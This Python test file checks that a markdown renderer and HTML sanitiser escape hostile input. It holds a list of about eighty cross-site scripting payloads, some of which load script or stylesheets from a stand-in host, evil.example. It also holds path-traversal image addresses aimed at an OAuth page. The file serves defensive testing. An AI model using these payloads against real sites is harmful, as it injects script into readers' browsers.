"""Markdown of strangers: what it becomes, and that nothing in it can act."""

import re
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from headwater.hub.markdown import AS_WRITTEN, MAX_WORK, render, sanitise
from headwater.hub.mathml import to_mathml

BASE = "/ada/m/blob/main/docs/"


def md(text, base=BASE):
    return render(text, link_base=base)


@pytest.mark.parametrize(
    ("text", "part"),
    [
        ("# Über uns\n", '<h1 id="md-über-uns">Über uns</h1>'),
        ("# A\n# A\n", 'id="md-a-1"'),
        ("[x](#über-uns)", 'href="#md-'),
        ("|a|b|\n|-|:-:|\n|1|2|\n", "<td>1</td>"),
        ("~~gone~~", "<s>gone</s>"),
        ("- [x] done", 'type="checkbox"'),
        ("a[^1]\n\n[^1]: note", 'class="footnotes"'),
        ("$x^2$", "<msup><mi>x</mi><mn>2</mn></msup>"),
        ("$$\\frac{a}{b}$$", '<math xmlns="http://www.w3.org/1998/Math/MathML" display="block"'),
        ("\\begin{align}a&=b\\end{align}", "<mtable"),
        ("costs $5 and $6", "costs $5 and $6"),
        ("```math\nx\n```", "<mi>x</mi>"),
        ("```python\ndef f(): pass\n```", '<span class="k">def</span>'),
        ("```nothing-known\n<b>\n```", "&lt;b&gt;"),
        ("    <i>code</i>", "&lt;i&gt;"),
        ("[a](b.md)", 'href="/ada/m/blob/main/docs/b.md"'),
        ("[a](../b.md#c)", 'href="/ada/m/blob/main/b.md#md-c"'),
        ("[a](../../../../../etc/passwd)", 'href="/ada/m/blob/main/etc/passwd"'),
        ("[a](/datasets/lab/x)", 'href="/datasets/lab/x"'),
        ("[a](中文 名.md)", "[a](中文 名.md)"),
        ("[a](<中文 名.md>)", 'href="/ada/m/blob/main/docs/%E4%B8%AD%E6%96%87%20%E5%90%8D.md"'),
        ("![a](p.png)", 'src="/ada/m/resolve/main/docs/p.png"'),
        ('<img src="p.png" width="40">', 'src="/ada/m/resolve/main/docs/p.png"'),
        ("![a chart](https://x.example/p.png)", '<a class="elsewhere" href="https://x.example/p.png"'),
        ("[![badge](https://x.example/p.svg)](https://y.example)", 'rel="nofollow noopener noreferrer">badge</a>'),
        ("see https://x.example/a_b_c.", ">https://x.example/a_b_c</a>."),
        ("<https://x.example>", 'href="https://x.example"'),
        ("<details><summary>s</summary>\n\n**b**\n\n</details>", "<strong>b</strong>"),
        ('<p align="center">x</p>', 'align="center"'),
        ("H<sub>2</sub>O <kbd>q</kbd>", "<sub>2</sub>"),
        ("<!-- hidden -->shown", "shown"),
    ],
)
def test_what_it_becomes(text, part):
    assert part in md(text)


def test_without_a_base_relative_links_lead_nowhere():
    assert "href" not in md("[a](b.md) <img src=c.png>", None)
    assert "src" not in md("[a](b.md) <img src=c.png>", None)


OWN = "https://hub.example.edu"


@pytest.mark.parametrize(
    "path",
    [
        "/uploads/0123456789abcdef0123456789abcdef.png",
        "/lab/m/resolve/main/p.png",
        "/lab/m/resolve/refs%2Fpr%2F1/%E5%9B%BE/p.png?download=true",
        "/datasets/lab/d.x/raw/v1.0/p.svg",
        "/spaces/lab/s-1/resolve/main/a/b.gif",
    ],
)
@pytest.mark.parametrize("at", ["", OWN])
def test_files_of_this_site_are_shown(path, at):
    html = render(f"![x]({at}{path})", link_base=BASE, own_origin=OWN)
    assert f'src="{path}"' in html


@pytest.mark.parametrize(
    "path",
    [
        "/oauth/device?user_code=ABCD-EFGH",
        "/-/language/zh-CN",
        "/lab/m/discussions/1",
        "/lab/m",
        "/uploads/",
        "/uploads/../oauth/device",
        "/uploads/..%5Coauth/device",
        "/uploads/a/b",
        "/lab/m/resolve/main/../../../../oauth/device?user_code=x",
        "/lab/m/resolve/main/%2e%2e/%2E./.%2e/../oauth/device",
        "/oauth/device?/lab/m/resolve/main/p.png",
        "/oauth/device#/lab/m/resolve/main/p.png",
        "/lab%2Fm/x/resolve/main/p.png",
    ],
)
@pytest.mark.parametrize("at", ["", OWN])
@pytest.mark.parametrize("tag", ["![x]({})", '<img src="{}" alt="x">', '<video src="{}"></video>', '<audio src="{}">'])
def test_no_image_makes_a_readers_browser_ask_for_a_page(path, at, tag):
    html = render(tag.format(at + path), link_base=BASE, own_origin=OWN)
    assert "src=" not in html
    if tag.startswith("!"):
        assert '<a class="elsewhere" href="/' in html


@pytest.mark.parametrize(
    "relative",
    ["%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/oauth/device", "/lab/m/resolve\\..\\..\\..\\oauth", "\t/\toauth/device"],
)
def test_no_disguised_address_does_either(relative):
    assert "src=" not in md(f'<img src="{relative}" alt="x">')


def test_nor_an_owner_whose_name_is_that_of_a_view():
    assert 'src="/raw/settings"' not in md("![x](../../settings)", "/raw/m/blob/main/")


@pytest.mark.parametrize("owner", ["blob", "raw", "tree", "resolve", "ada", "main"])
@pytest.mark.parametrize("name", ["blob", "resolve", "raw", "m"])
@pytest.mark.parametrize("kind", ["", "/datasets", "/spaces"])
def test_relative_addresses_stand_on_the_view_whatever_owner_and_repository_are_called(owner, name, kind):
    made = md("![x](a.png) [y](b.md) ![z](../../../../c.png)", f"{kind}/{owner}/{name}/blob/main/docs/")
    assert f'src="{kind}/{owner}/{name}/resolve/main/docs/a.png"' in made
    assert f'href="{kind}/{owner}/{name}/blob/main/docs/b.md"' in made
    assert f'src="{kind}/{owner}/{name}/resolve/main/c.png"' in made


def test_links_to_pages_of_this_site_stay():
    assert 'href="/oauth/device?user_code=x"' in md("[x](/oauth/device?user_code=x)")


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='\u200bjavascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x"onerror="alert(1)](x.png)',
    '![x](x.png "t" onerror=alert(1))',
    '![x](https://e.example/"onmouseover="alert(1))',
    '<img src=\'https://e.example/"onmouseover="alert(1)\' alt=\'"><script>alert(1)</script>\'>',
    '<p title="<img src=">a" src="https://e.example/<b title=">x</b>',
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<details ontoggle=alert(1) open>x</details>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<a id=cookie name=cookie>x</a>",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\class{x}{y}$ $\\style{background:url(javascript:1)}{y}$",
    "$\\text{</math><script>alert(1)</script>}$",
    '$$\\mathrm{"onmouseover=alert(1)}$$',
    '<div title="\n\n$x$\n\n">',
    '<hw-formula title="0-0"></hw-formula><hw-formula onclick=alert(1)>',
    "```html\n<script>alert(1)</script>\n```",
    '```"onclick=alert(1)\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "# x {onclick=alert(1)}",
    "[^<script>]\n\n[^<script>]: x",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    '<a href="#" onclick="alert(1)" class="btn main">x</a>',
    '<span class="btn main top">x</span>',
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<a/href=javascript:alert(1)>x",
    "<img src=x:x onerror=alert(1)//",
]  # fmt: skip

ELEMENTS = frozenset(
    [
        "a",
        "abbr",
        "audio",
        "b",
        "blockquote",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "details",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "input",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "section",
        "small",
        "span",
        "strike",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "tr",
        "tt",
        "u",
        "ul",
        "var",
        "video",
        "wbr",
        "math",
        "mrow",
        "mi",
        "mn",
        "mo",
        "ms",
        "mtext",
        "mspace",
        "mfrac",
        "msqrt",
        "mroot",
        "msub",
        "msup",
        "msubsup",
        "munder",
        "mover",
        "munderover",
        "mtable",
        "mtr",
        "mtd",
        "mstyle",
        "mpadded",
        "mphantom",
        "menclose",
        "mfenced",
    ]
)
SAFE_ATTRIBUTES = frozenset(
    [
        "align",
        "alt",
        "alttext",
        "border",
        "checked",
        "class",
        "colspan",
        "controls",
        "dir",
        "disabled",
        "display",
        "height",
        "href",
        "id",
        "lang",
        "loading",
        "loop",
        "muted",
        "name",
        "open",
        "rel",
        "reversed",
        "rowspan",
        "scope",
        "span",
        "src",
        "start",
        "title",
        "type",
        "valign",
        "value",
        "width",
        "xmlns",
        "mathvariant",
        "stretchy",
        "fence",
        "form",
        "separator",
        "lspace",
        "rspace",
        "minsize",
        "maxsize",
        "symmetric",
        "largeop",
        "movablelimits",
        "accent",
        "accentunder",
        "columnalign",
        "rowalign",
        "columnspacing",
        "rowspacing",
        "columnlines",
        "rowlines",
        "linethickness",
        "displaystyle",
        "scriptlevel",
        "depth",
        "mathsize",
        "mathcolor",
        "notation",
        "close",
        "separators",
    ]
)


class Checker(HTMLParser):
    """Reads the answer as a browser would, and objects to whatever is not known to be harmless."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.bad = []

    def handle_starttag(self, tag, attrs):
        if tag not in ELEMENTS:
            self.bad.append(tag)
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES:
                self.bad.append((tag, name))
            where = "".join((value or "").split()).lower()
            if name in ("href", "src"):
                if not where.startswith(
                    ("http://", "https://", "mailto:", "/", "#", "data:image/")
                ) or where.startswith("//"):
                    self.bad.append((tag, name, value))
                if name == "src" and not where.startswith(
                    ("/", "data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp")
                ):
                    self.bad.append((tag, name, value))
            if name == "src" and where.startswith("/"):
                path = re.split("[?#]", where)[0]
                if not re.fullmatch("/uploads/[^/]+|(/(datasets|spaces))?/[^/]+/[^/]+/(resolve|raw)/.+", path):
                    self.bad.append((tag, name, value))
                if "\\" in path or {".", ".."} & {part.replace("%2e", ".") for part in path.split("/")}:
                    self.bad.append((tag, name, value))
            if name in ("id", "name") and not value.startswith("md-"):
                self.bad.append((tag, name, value))
            if name == "class" and {"btn", "main", "top"} & set(value.split()):
                self.bad.append((tag, name, value))
        if tag == "input" and dict(attrs).get("type") != "checkbox":
            self.bad.append((tag, attrs))

    def handle_comment(self, data):
        self.bad.append(("comment", data))

    def handle_decl(self, decl):
        self.bad.append(("declaration", decl))

    def handle_pi(self, data):
        self.bad.append(("instruction", data))


def objections(html):
    checker = Checker()
    checker.feed(html)
    checker.close()
    return checker.bad


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack):
    for text in (attack, f"a {attack} b", f"> {attack}", f"- {attack}", f"<div>\n\n{attack}\n\n</div>", f"<b>{attack}"):
        assert objections(md(text)) == []
    assert objections(sanitise(attack, link_base=BASE)) == []


@settings(max_examples=80, deadline=None)
@given(st.lists(st.sampled_from(ATTACKS) | st.sampled_from(["\n", "\n\n", "$", "`", "```", '"', "'", ">", "<", "[", "](", ")", "!", "<b>", "</p>", '<a href="', '<img alt="']) | st.text(max_size=8), max_size=8))  # fmt: skip
@example(['<p title="', "$x$", '">'])
def test_no_mixture_of_attacks_survives(pieces):
    assert objections(md("".join(pieces))) == []


@settings(max_examples=60, deadline=None)
@given(st.text(st.sampled_from("\\{}^_&<>\"'frac textmathrm()[]ab12 $#%~=;:"), max_size=40))
def test_formulas_are_mathml_or_nothing(latex):
    for display in (True, False):
        made = to_mathml(latex, display=display)
        assert made is None or objections(made) == []


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "*a ",
        "_a_ **b",
        "> ",
        "`` ` ",
        "<a ",
        "<!--",
        "$a ",
        "$$a\n",
        "[^a]",
        "~~a",
        "# a\n",
        "[a](",
        "&#",
        "|a",
    ],
)
def test_no_repetition_takes_more_work_than_any_text_may(unit):
    """Counted in calls of functions, which no machine does more of than another."""
    text = unit * ((60_000 if unit in ("[", "![") else 15_000) // len(unit))
    calls = 0

    def count(_frame, event, _argument):
        nonlocal calls
        calls += event in ("call", "c_call")

    sys.setprofile(count)
    try:
        shown = md(text)
    finally:
        sys.setprofile(None)
    assert calls < 6 * MAX_WORK
    assert len(shown) < 20 * len(text)
    again = calls
    sys.setprofile(count)
    try:
        assert md(text) == shown
    finally:
        sys.setprofile(None)
    assert calls - again < 100  # remembered, also when it was too much


def test_what_takes_too_much_is_shown_as_it_was_written():
    shown = md("![" * 30_000)
    assert shown == f"{AS_WRITTEN}{'![' * 30_000}</pre>"
    assert md("<b>&" + "[" * 60_000).startswith(f"{AS_WRITTEN}&lt;b&gt;&amp;[[")


def test_a_long_text_that_is_not_hostile_is_laid_out():
    line = "- [A project of some name](https://x.example/some/project) - Described in a **few** words, `code` among them.\n"
    assert md(line * 2500).count("<li>") == 2500


def test_more_than_a_megabyte_is_cut():
    assert len(md("word " * 400_000)) < 1_200_000


@given(st.text())
@settings(max_examples=60, deadline=None)
def test_any_text_renders(text):
    assert objections(md(text)) == []


def test_columns_of_a_table_keep_their_alignment() -> None:
    html = render("| a | b | c | d |\n|---|:--|:-:|--:|\n| 1 | 2 | 3 | 4 |\n", link_base="")
    assert re.findall(r"<t([hd])( [^>]*|)>", html) == [
        (cell, side) for cell in "hd" for side in ("", ' align="left"', ' align="center"', ' align="right"')
    ]
    assert "style" not in html
